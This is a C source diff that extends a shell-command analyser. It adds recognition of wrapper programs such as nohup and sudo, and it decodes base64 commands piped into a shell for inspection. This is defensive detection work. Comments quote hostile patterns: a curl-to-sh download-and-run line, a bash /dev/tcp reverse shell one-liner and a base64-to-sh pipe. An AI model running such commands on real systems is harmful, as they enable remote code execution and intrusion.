@@ -483,16 +483,68 @@ static void command_effects(struct an *a, const struct callsite *c, const char *
 		emit(a, c, "openat:persist", base);
 }
 
+/* Programs that run the program named after them (and their own options):
+ * the stage's program is the next word. */
+static bool runs_next_word(const char *prog)
+{
+	static const char *const wrappers[] = { "nohup", "setsid", "env", "nice", "ionice",
+						"timeout", "stdbuf", "sudo", "exec", "command",
+						"chroot", "unshare", "nsenter", "xargs", "busybox",
+						"toybox" };
+	const char *b = strrchr(prog, '/');
+
+	return in_word_list(b ? b + 1 : prog, wrappers, ARRAY_SIZE(wrappers));
+}
+
+/* A command hidden in base64 and decoded into a shell ("echo B64 | base64
+ * -d | sh"): the literal decoded, when it is text. */
+static bool base64_command(const char *cmd, char *out, size_t cap)
+{
+	static const char alphabet[] =
+		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	const char *p, *best = NULL;
+	size_t best_n = 0, n = 0;
+	unsigned bits = 0, acc = 0;
+
+	if (!strstr(cmd, "base64 -d") && !strstr(cmd, "base64 --decode") &&
+	    !strstr(cmd, "base64 -D"))
+		return false;
+	for (p = cmd; *p; p += n ? n : 1) { /* the longest run of the alphabet */
+		n = strspn(p, alphabet);
+		if (n > best_n) {
+			best = p;
+			best_n = n;
+		}
+	}
+	if (best_n < 16)
+		return false;
+	n = 0;
+	for (size_t i = 0; i < best_n && n + 1 < cap; i++) {
+		acc = acc << 6 | (unsigned)(strchr(alphabet, best[i]) - alphabet);
+		bits += 6;
+		if (bits >= 8) {
+			bits -= 8;
+			out[n] = (char)(acc >> bits & 0xff);
+			if ((unsigned char)out[n] < 0x20 && !strchr("\t\n\r", out[n]))
+				return false; /* not text: not a command */
+			n++;
+		}
+	}
+	out[n] = '\0';
+	return n > 0;
+}
+
 /* A shell command line: every pipeline stage whose program is a shell or
  * a downloader ("curl -s http://x | sh", quoted or not: "bash -c 'curl
  * …'") or an interpreter given a program, then the connections bash's
  * /dev/tcp and /dev/udp redirections make — each a socket connected and
  * put on a descriptor ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse
  * shell one-liner). shell_command() adds the shell that runs it. */
-static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
+static void command_line(struct an *a, const struct callsite *c, const char *cmd, bool decoded)
 {
 	char buf[DCAM_ARG_LEN], args[DCAM_SHELL_CMD_LEN];
 	const char *p = cmd, *net;
+	bool wrapped = false;
 
 	while (p && *p) {
 		size_t n, stage;
@@ -506,7 +558,18 @@ static void shell_command_body(struct an *a, const struct callsite *c, const cha
 			p += n;
 			continue;
 		}
+		/* a wrapper's options and counts (nice -n 19, timeout 10)
+		 * before the program it runs */
+		if (wrapped && (*p == '-' || strspn(p, "0123456789") == n)) {
+			p += n;
+			continue;
+		}
 		snprintf(buf, sizeof(buf), "%.*s", (int)n, p);
+		wrapped = runs_next_word(buf);
+		if (wrapped) { /* nohup PROG, busybox APPLET: the program is next */
+			p += n;
+			continue;
+		}
 		tok = tokclass_exec(buf, NULL);
 		/* a program run from a tmp dir: a dropped payload */
 		if (strcmp(tok, "execve") || tokclass_is_tmp(buf)) {
@@ -532,6 +595,12 @@ static void shell_command_body(struct an *a, const struct callsite *c, const cha
 		command_effects(a, c, buf, args);
 		p += stage;
 	}
+	if (!decoded && cmd) { /* one level: what it decodes to is read as written */
+		char text[DCAM_SHELL_CMD_LEN];
+
+		if (base64_command(cmd, text, sizeof(text)))
+			command_line(a, c, text, true);
+	}
 	for (net = cmd; net && (net = strstr(net, "/dev/")); net += 5) {
 		if (strncmp(net + 5, "tcp/", 4) && strncmp(net + 5, "udp/", 4))
 			continue;
@@ -540,6 +609,11 @@ static void shell_command_body(struct an *a, const struct callsite *c, const cha
 		emit(a, c, "connect:inet", buf);
 		emit(a, c, "dup2:socket", buf);
 	}
+}
+
+static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
+{
+	command_line(a, c, cmd, false);
 }
 
 static void shell_command(struct an *a, const struct callsite *c, const char *cmd)
